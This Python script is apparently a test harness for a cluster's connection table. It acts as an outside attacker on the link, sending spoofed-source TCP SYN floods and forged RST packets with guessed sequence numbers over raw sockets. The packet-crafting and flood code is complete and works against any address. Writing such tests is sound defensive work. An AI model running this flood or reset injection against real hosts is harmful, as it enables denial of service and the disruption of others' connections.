#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An attacker outside the cluster, on the nodes' link, for the connection table's tests. IPv4,
raw sockets: the kernel routes each packet and fills its IPv4 checksum, whatever its source.

  flood.py syn ADDRESS PORT COUNT NETWORK
      COUNT SYNs to ADDRESS:PORT from random addresses of NETWORK and random ports; prints
      {"sent": n, "seconds": s}
  flood.py rst ADDRESS PORT CLIENT:PORT:SEQ [...]
      a reset from each CLIENT:PORT to ADDRESS:PORT with sequence number SEQ (an attacker who knows
      a connection's addresses and ports, not its sequence, guesses one); prints {"sent": n}
"""
import ipaddress
import json
import random
import socket
import struct
import sys
import time


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, sport, destination, dport, flags, seq):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, 5 << 4, flags, 65535, 0, 0)
    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0, source, destination)
    return ip + tcp


def main():
    mode, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    destination = socket.inet_aton(address)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    started = time.monotonic()
    if mode == "syn":
        count, network = int(sys.argv[4]), ipaddress.ip_network(sys.argv[5])
        base, size = int(network.network_address), network.num_addresses
        for _ in range(count):
            source = (base + random.randrange(size)).to_bytes(4, "big")
            packet = segment(source, random.randrange(1024, 65536), destination, port, 0x02, random.getrandbits(32))
            try:
                raw.sendto(packet, (address, 0))
                sent += 1
            except OSError:
                pass  # a full device queue: the flood goes on
    else:
        for client in sys.argv[4:]:
            host, client_port, seq = client.split(":")
            raw.sendto(segment(socket.inet_aton(host), int(client_port), destination, port, 0x04, int(seq)), (address, 0))
            sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}))


main()
